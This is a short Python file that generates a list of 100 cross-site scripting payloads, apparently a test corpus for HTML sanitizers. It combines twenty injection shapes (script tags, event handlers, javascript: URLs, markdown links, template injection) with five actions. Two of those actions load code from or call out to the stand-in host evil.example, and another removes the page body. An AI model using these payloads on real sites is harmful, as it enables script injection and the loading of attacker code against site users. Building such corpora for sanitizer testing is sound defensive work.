"""A hundred texts that run something on a page which believes them."""

_RUN = (
    "alert(1)",
    "alert`1`",
    "import('//evil.example/x.js')",
    "fetch('//evil.example')",
    "document.body.remove()",
)
_SHAPES = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<details open ontoggle={run}>x</details>",
    "<a href=javascript:{run}>click</a>",
    "[click](javascript:{run})",
    '![x](x"onerror="{run})',
    '"><img src=x onerror={run}>',
    "'><input autofocus onfocus={run}>",
    "</textarea><svg onload={run}>",
    "</title><svg onload={run}>",
    "<math><mtext><style><img src=x onerror={run}></style></mtext></math>",
    "<form action=javascript:{run}><button>Send</button></form>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "<div hx-on:load={run} hx-get=/ hx-trigger=load>x</div>",
    "<style>@import '//evil.example/{run}';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
)

TEXTS = [shape.format(run=run) for shape in _SHAPES for run in _RUN]
